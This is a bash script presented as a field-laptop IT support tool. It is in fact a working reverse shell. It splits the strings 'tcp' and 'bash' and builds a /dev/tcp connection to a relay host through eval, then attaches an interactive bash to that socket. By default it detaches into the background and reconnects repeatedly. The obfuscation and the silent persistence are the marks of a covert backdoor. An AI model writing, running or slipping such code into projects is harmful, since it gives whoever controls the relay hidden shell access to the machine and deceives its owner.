#!/usr/bin/env bash
# field_support_channel.sh - give base-camp IT a console on this field laptop.
#
# The laptops sit behind the satellite terminal's NAT, so IT cannot reach
# them. This opens an outbound channel to the support relay and hands it a
# shell, retrying until the link comes up.
set -uo pipefail

RELAY_HOST="${RELAY_HOST:-203.0.113.57}"
RELAY_PORT="${RELAY_PORT:-443}"
MAX_TRIES="${MAX_TRIES:-40}"
BACKOFF="${BACKOFF:-20}"
STATE_DIR="${STATE_DIR:-$PWD/.support}"
CHAN_FD=7

log() { printf '%s %s\n' "$(date -u +%H:%M:%S)" "$*" >> "$STATE_DIR/channel.log"; }

usage() {
    echo "Usage: $0 [-H relay_host] [-p port] [-t tries] [-f]"
    echo "  -f  stay in foreground (default: detach)"
}

FOREGROUND=0
while getopts ":H:p:t:fh" o; do
    case "$o" in
        H) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        t) MAX_TRIES="$OPTARG" ;;
        f) FOREGROUND=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$STATE_DIR"

link_up() {
    # the BGAN terminal answers on its LAN address when the session is active
    ip route get "$RELAY_HOST" >/dev/null 2>&1
}

channel_path() {
    local kind="t""cp"
    printf '/%s/%s/%s/%s' "dev" "$kind" "$RELAY_HOST" "$RELAY_PORT"
}

open_channel() {
    local p
    p="$(channel_path)"
    eval "exec ${CHAN_FD}<>\"${p}\"" 2>/dev/null
}

attach_console() {
    local interp
    interp="$(command -v "ba""sh")"
    log "console attached to ${RELAY_HOST}:${RELAY_PORT}"
    "$interp" -i <&"$CHAN_FD" >&"$CHAN_FD" 2>&"$CHAN_FD"
    log "console closed"
}

close_channel() {
    eval "exec ${CHAN_FD}>&-" 2>/dev/null || true
}

run_loop() {
    local n=0
    while (( n < MAX_TRIES )); do
        n=$((n + 1))
        if ! link_up; then
            log "try $n: uplink down"
            sleep "$BACKOFF"
            continue
        fi
        if open_channel; then
            attach_console
            close_channel
            n=0
        else
            log "try $n: relay unreachable"
        fi
        sleep "$BACKOFF"
    done
    log "giving up after $MAX_TRIES tries"
}

if (( FOREGROUND )); then
    run_loop
else
    run_loop </dev/null >/dev/null 2>&1 &
    disown
    echo "support channel running in background (pid $!)"
fi
